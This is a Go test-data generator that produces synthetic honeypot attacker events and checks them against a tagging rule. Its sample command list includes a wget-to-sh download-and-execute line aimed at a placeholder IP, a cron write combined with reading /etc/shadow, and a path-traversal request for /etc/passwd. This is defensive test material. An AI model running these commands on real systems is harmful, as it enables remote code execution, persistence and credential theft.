package chaos

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os/exec"
	"strings"
	"time"

	"ttp-worker/ttp"
)

type object = map[string]any

// fact is an event as the command "tag" reads it, and whose it is.
type fact struct {
	Kind     string `json:"source_kind"`
	SourceID string `json:"source_id"`
	Attacker string `json:"attacker_uuid,omitempty"`
	Identity string `json:"identity_uuid,omitempty"`
	Session  string `json:"session_id,omitempty"`
	Decky    string `json:"decky_id,omitempty"`
	Payload  object `json:"payload"`
}

// event is a message that is sent, and what is known of what is in it.
type event struct {
	id      string // unique; the message id on the bus, too
	subject string
	data    []byte
	facts   []fact
	poison  bool // it must become a dead letter; its facts must be stored all the same
}

// actor is an attacker as the database has him.
type actor struct{ uuid, ip, identity string }

// generator makes events.
type generator struct {
	rng    *rand.Rand
	run    string // makes ids unique
	n      int
	actors []actor
}

// newGenerator knows count attackers, one in three of them resolved to an
// identity. It draws from rng once and then goes on by itself.
func newGenerator(rng *rand.Rand, run string, count int) *generator {
	g := &generator{rng: rand.New(rand.NewPCG(rng.Uint64(), rng.Uint64())), run: run}
	for i := range count {
		a := actor{ip: fmt.Sprintf("198.51.%d.%d", 100+i/250, 1+i%250)}
		a.uuid = ttp.AttackerUUID(run + a.ip)
		if i%3 == 0 {
			a.identity = ttp.AttackerUUID(run + "identity" + a.ip)
		}
		g.actors = append(g.actors, a)
	}
	return g
}

func (g *generator) id() string {
	g.n++
	return fmt.Sprintf("%s-%d", g.run, g.n)
}

// next makes an event of a random kind by a random attacker.
func (g *generator) next() event {
	a := g.actors[g.rng.IntN(len(g.actors))]
	switch g.rng.IntN(8) {
	case 0:
		return g.session(a)
	case 1:
		return g.request(a)
	case 2:
		return g.login(a)
	case 3:
		return g.boring(a)
	}
	return g.command(a)
}

const decky = "decky-1"

// stamp is a time that no two calls have in common for the same text.
func (g *generator) stamp() string {
	return time.Date(2026, 5, 2, 0, 0, 0, 0, time.UTC).Add(time.Duration(g.n) * time.Second).Format("2006-01-02T15:04:05")
}

// contentID is the contract's source_id of what has a time.
func contentID(a actor, stamp, text string) string {
	sum := sha256.Sum256([]byte(strings.Join([]string{a.uuid, decky, stamp, text}, "\x1f")))
	return hex.EncodeToString(sum[:16])
}

func (a actor) fact(kind, sourceID, session string, payload object) fact {
	return fact{Kind: kind, SourceID: sourceID, Attacker: a.uuid, Identity: a.identity, Session: session, Decky: decky, Payload: payload}
}

// who adds the attacker to a payload, as producers do: by uuid or by address.
func (g *generator) who(a actor, payload object) object {
	if g.rng.IntN(2) == 0 {
		payload["attacker_uuid"] = a.uuid
	} else {
		payload["attacker_uuid"], payload["attacker_ip"] = nil, a.ip
	}
	payload["decky_id"] = decky
	return payload
}

var commandLines = []string{
	"cat /tmp/chaos-%s", "cd /tmp; wget http://192.0.2.1/chaos-%s -O- | sh", "echo 'chaos-%s' > /etc/cron.d/x; cat /etc/shadow",
	"ls -la /opt/chaos-%s; uname -a", "printf '\\u00e4\u20ac\u4e16 chaos-%s'",
}

func (g *generator) command(a actor) event {
	id := g.id()
	text := fmt.Sprintf(commandLines[g.rng.IntN(len(commandLines))], id)
	stamp := g.stamp()
	payload := g.who(a, object{"id": id, "command_text": text, "ts": stamp, "service": "ssh", "user": "root"})
	return g.event(id, "attacker.command", payload, a.fact("command", contentID(a, stamp, text), "", payload))
}

func (g *generator) boring(a actor) event {
	id := g.id()
	text, stamp := "true "+id, g.stamp()
	payload := g.who(a, object{"command_text": text, "ts": stamp})
	return g.event(id, "attacker.command", payload, a.fact("command", contentID(a, stamp, text), "", payload))
}

func (g *generator) request(a actor) event {
	id := g.id()
	url, stamp := "/chaos-"+id+"?f=../../../../etc/passwd", g.stamp()
	payload := g.who(a, object{"method": "GET", "raw_url": url, "ts": stamp, "user_agent": "curl/8"})
	return g.event(id, "attacker.http", payload, a.fact("http_request", contentID(a, stamp, "GET "+url), "", payload))
}

func (g *generator) login(a actor) event {
	id := g.id()
	user, stamp := "chaos-"+id, g.stamp()
	payload := g.who(a, object{"service": "ssh", "username": user, "password": "secret", "result": "failed", "ts": stamp})
	return g.event(id, "attacker.auth", payload, a.fact("auth_attempt", contentID(a, stamp, "ssh "+user+" failed"), "", payload))
}

// session makes a session of up to six commands.
func (g *generator) session(a actor) event {
	id := g.id()
	var commands []any
	var facts []fact
	for range 1 + g.rng.IntN(6) {
		text := fmt.Sprintf(commandLines[g.rng.IntN(len(commandLines))], g.id())
		stamp := g.stamp()
		entry := object{"id": g.id(), "command_text": text, "ts": stamp, "user": "root"}
		commands = append(commands, entry)
		facts = append(facts, a.fact("command", contentID(a, stamp, text), "s-"+id, entry))
	}
	return g.sessionOf(id, a, commands, facts)
}

func (g *generator) sessionOf(id string, a actor, commands []any, facts []fact) event {
	payload := g.who(a, object{"session_id": "s-" + id, "service": "ssh", "ended_at": g.stamp(), "duration_s": 5, "commands": commands})
	facts = append(facts, a.fact("session", "s-"+id, "s-"+id, payload))
	return g.event(id, "attacker.session.ended", payload, facts...)
}

func (g *generator) event(id, subject string, payload object, facts ...fact) event {
	data, err := json.Marshal(object{"v": 1, "id": id, "topic": subject, "type": subject, "ts": 1764000000.5, "payload": payload})
	if err != nil {
		panic(err) // maps of strings and numbers
	}
	return event{id: id, subject: subject, data: data, facts: facts}
}

// mark is the rule that must fire on every command that carries the mark: if
// what is expected were empty, everything would pass.
const mark = "CHAOS1"

// tagsOf asks the command "tag", which knows no bus and no database, what tags
// the facts have. They come back by uuid.
func tagsOf(ctx context.Context, worker string, rules []string, facts []fact) (map[string]object, error) {
	var in, out, complaints bytes.Buffer
	marked := 0
	for _, f := range facts {
		line, err := json.Marshal(f)
		if err != nil {
			return nil, err
		}
		if f.Kind == "command" && bytes.Contains(line, []byte("chaos-")) {
			marked++
		}
		in.Write(append(line, '\n'))
	}
	cmd := exec.CommandContext(ctx, worker, append([]string{"tag", "--format", "jsonl"}, ruleFlags(rules)...)...)
	cmd.Stdin, cmd.Stdout, cmd.Stderr = &in, &out, &complaints
	if err := cmd.Run(); err != nil {
		return nil, fmt.Errorf("tag what was sent: %w: %.300s", err, complaints.Bytes())
	}
	return parseTags(out.Bytes(), marked)
}

func ruleFlags(rules []string) (flags []string) {
	for _, r := range rules {
		flags = append(flags, "--rules", r)
	}
	return flags
}

func parseTags(lines []byte, marked int) (map[string]object, error) {
	tags := make(map[string]object)
	for line := range bytes.Lines(lines) {
		var tag object
		if err := json.Unmarshal(line, &tag); err != nil {
			return nil, fmt.Errorf("read a tag: %w", err)
		}
		uuid, _ := tag["uuid"].(string)
		tags[uuid] = tag
		if tag["rule_id"] == mark {
			marked--
		}
	}
	if marked > 0 {
		return nil, fmt.Errorf("rule %s misses %d commands that carry its mark", mark, marked)
	}
	return tags, nil
}
